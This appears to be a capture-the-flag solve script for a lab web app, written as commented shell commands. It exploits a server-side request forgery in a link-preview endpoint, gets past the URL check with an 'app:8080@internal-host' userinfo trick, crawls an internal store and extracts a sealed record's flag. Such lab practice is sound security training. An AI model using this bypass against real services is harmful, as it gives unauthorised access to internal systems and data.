#-- the board, its preview, and what its status tells
curl -s http://app:8080/
curl -s http://app:8080/status
curl -s -G http://app:8080/preview --data-urlencode url=http://app:8080/notice/1
#-- a link elsewhere is refused; one that only begins with the board's address is not
store=$(curl -s http://app:8080/status | grep -o 'store:[0-9]\+')
get() { curl -s -G http://app:8080/preview --data-urlencode "url=$1"; }
get "http://$store/"
get "http://app:8080@$store/"
#-- look through the shelves for the sealed record
store=$(curl -s http://app:8080/status | grep -o 'store:[0-9]\+')
get() { curl -s -G http://app:8080/preview --data-urlencode "url=http://app:8080@$store$1"; }
for shelf in $(get / | grep -o '/shelf/[a-z]*-[0-9]*'); do get "$shelf"; done > /tmp/records
grep sealed /tmp/records
#-- and read it
get "$(grep sealed /tmp/records | grep -o '/record/[a-z]*-[0-9]*/[0-9a-f]*')" | grep -o 'flag{[0-9a-f]*}'
